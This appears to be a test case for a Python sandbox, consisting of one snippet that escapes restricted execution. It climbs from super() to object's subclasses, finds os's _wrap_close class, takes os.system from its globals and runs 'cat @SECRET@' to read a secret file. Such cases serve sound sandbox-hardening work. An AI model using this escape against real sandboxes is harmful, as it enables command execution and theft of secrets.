# super() as a proxy whose attributes are looked up elsewhere.
# effect: run
class Child(dict):
    def leave(self):
        return super().__init__.__objclass__.__base__
kinds = Child().leave().__subclasses__()
[k for k in kinds if k.__name__ == "_wrap_close"][0].__init__.__globals__["system"]("cat @SECRET@")
